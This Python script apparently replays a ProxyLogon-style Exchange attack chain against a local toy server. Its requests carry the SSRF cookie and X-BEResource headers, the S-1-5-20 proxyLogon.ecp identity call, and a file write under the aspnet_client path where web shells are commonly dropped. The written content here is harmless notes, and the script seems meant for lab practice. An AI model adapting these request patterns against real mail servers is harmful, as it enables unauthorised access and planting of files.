# ruff: noqa
"""urllib3 port of the lab chain, with a JSON profile and an enum of steps (toy server only)."""

import enum
import json
import sys

import urllib3

PROFILE = json.loads(
    """
{
  "agent": "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
  "mailbox": "administrator@lab.invalid",
  "cookie": "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522",
  "note": "/aspnet_client/system_web/readme_91453.txt",
  "request_id": "20200302-7720"
}
"""
)


class Step(enum.Enum):
    PROBE = "probe"
    IDENTITY = "identity"
    NOTE = "note"
    CHECK = "check"


def browser():
    return urllib3.HTTPHeaderDict(
        [
            ("User-Agent", PROFILE["agent"]),
            ("x-requested-with", "XMLHttpRequest"),
            ("Accept", "*/*"),
            ("accept-language", "en-US,en;q=0.9"),
            ("connection", "close"),
        ]
    )


def request_for(step, who="anonymous"):
    if step is Step.PROBE:
        headers = browser()
        headers["cookie"] = PROFILE["cookie"]
        fields = {
            "Pad": "".join("A" for _ in range(37)),
            "Protocol": "Autodiscoverv1",
            "Email": PROFILE["mailbox"] + "/mapi/nspi",
            "RequestId": PROFILE["request_id"],
        }
        return "GET", "/autodiscover/autodiscover.json", headers, None, fields
    if step is Step.IDENTITY:
        headers = {
            "user-agent": PROFILE["agent"],
            "msexchlogonmailbox": "S-1-5-20",
            "content-type": "application/json",
            "X-BEResource": "localhost@lab.invalid/ecp/proxyLogon.ecp",
        }
        body = json.dumps({"mailbox": PROFILE["mailbox"], "requestKind": "identity", "seq": 1})
        return "POST", "/ecp/proxyLogon.ecp", headers, body, None
    if step is Step.NOTE:
        headers = {
            "user-agent": PROFILE["agent"],
            "X-Note-Path": PROFILE["note"],
            "Content-Type": "text/plain",
        }
        body = "\n".join("note {} of 3 for {}".format(n, who) for n in (1, 2, 3))
        return "POST", PROFILE["note"], headers, body, None
    return "GET", PROFILE["note"], browser(), None, None


def main():
    port = int(sys.argv[1]) if len(sys.argv) > 1 else 8080
    pool = urllib3.HTTPConnectionPool("127.0.0.1", port, timeout=10.0, retries=urllib3.Retry(5))
    who = "anonymous"
    for step in Step:
        method, path, headers, body, fields = request_for(step, who)
        resp = pool.request(method, path, headers=headers, body=body, fields=fields)
        if step is Step.PROBE and resp.status >= 500:
            return 1
        if step is Step.IDENTITY and resp.status == 200:
            who = resp.data.decode("utf-8", "replace").strip() or who
        if step is Step.CHECK:
            print(len(resp.data[:1024]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
